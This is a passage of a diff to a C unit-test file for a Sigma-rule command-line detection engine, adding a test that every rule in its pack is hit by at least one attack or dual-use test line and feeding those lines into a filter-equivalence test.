+    for (size_t i = 0; i < NJ_ARRAY_LEN(pack_medium); i++) {
+        int best = pack_best(rs, pack_medium[i], NULL);
+        if (best != SIGMA_MEDIUM) {
+            fprintf(stderr, "dual-use line %s (best level %d, want medium): %s\n", best < 0 ? "missed" : "mis-rated",
+                    best, pack_medium[i]);
             bad++;
         }
     }
@@ -950,13 +1161,37 @@ static void test_pack_attacks(void **state) {
     sigma_rules_free(rs);
 }
 
+/* Every rule of the pack is exercised: each one hits at least one of the
+ * attack or dual-use lines above (a rule no line reaches is untested, or
+ * dead). */
+static void test_pack_every_rule_hit(void **state) {
+    (void)state;
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
+    int n = sigma_rule_count(rs);
+    int *seen = test_calloc((size_t)n, sizeof *seen);
+    assert_non_null(seen);
+    for (size_t i = 0; i < NJ_ARRAY_LEN(pack_attacks); i++) pack_best(rs, pack_attacks[i].cmd, seen);
+    for (size_t i = 0; i < NJ_ARRAY_LEN(pack_medium); i++) pack_best(rs, pack_medium[i], seen);
+    int bad = 0;
+    for (int r = 0; r < n; r++)
+        if (!seen[r]) {
+            fprintf(stderr, "no test line hits rule %s (%s)\n", sigma_rule(rs, r)->title, sigma_rule(rs, r)->file);
+            bad++;
+        }
+    assert_int_equal(bad, 0);
+    test_free(seen);
+    sigma_rules_free(rs);
+}
+
 
 
 /* The filters (item end sets, rule prefilters, regex literals) must never
  * change an answer: the team pack plus rules exercising every filter kind,
- * matched with and without them over many command lines (the benign and
- * attack lines above, and each cut at every tenth position, upper-cased, and
- * with an Image path), must give the same hits. */
+ * matched with and without them over many command lines (the lines below
+ * and the pack's attack and dual-use lines, each cut at every tenth
+ * position, upper-cased, and with an Image path), must give the same hits. */
 static void test_filters_equivalent(void **state) {
     (void)state;
     static const char *extra =
@@ -987,12 +1222,15 @@ static void test_filters_equivalent(void **state) {
         sigma_load_path(rs, p);
     }
     int compared = 0, hits = 0;
-    for (size_t i = 0; i < NJ_ARRAY_LEN(lines); i++) {
-        size_t len = strlen(lines[i]);
+    size_t n_lines = NJ_ARRAY_LEN(lines) + NJ_ARRAY_LEN(pack_attacks) + NJ_ARRAY_LEN(pack_medium);
+    for (size_t i = 0; i < n_lines; i++) {
+        size_t na = NJ_ARRAY_LEN(lines), nb = na + NJ_ARRAY_LEN(pack_attacks);
+        const char *line = i < na ? lines[i] : i < nb ? pack_attacks[i - na].cmd : pack_medium[i - nb];
+        size_t len = strlen(line);
         for (size_t cut = 1; cut <= len + 9; cut += 10) {
             for (int variant = 0; variant < 3; variant++) {
                 char cmd[512], img[64];
-                snprintf(cmd, sizeof cmd, "%.*s", (int)(cut < len ? cut : len), lines[i]);
+                snprintf(cmd, sizeof cmd, "%.*s", (int)(cut < len ? cut : len), line);
                 if (variant == 1)
                     for (char *q = cmd; *q; q++) *q = (char)toupper((unsigned char)*q);
                 size_t a0 = strcspn(cmd, " ");
@@ -1229,6 +1467,7 @@ int main(void) {
         cmocka_unit_test(test_canonical_event),
         cmocka_unit_test(test_pack_benign),
         cmocka_unit_test(test_pack_attacks),
+        cmocka_unit_test(test_pack_every_rule_hit),
         cmocka_unit_test(test_filters_equivalent),
         cmocka_unit_test(test_threads),
         cmocka_unit_test(test_sigmahq),
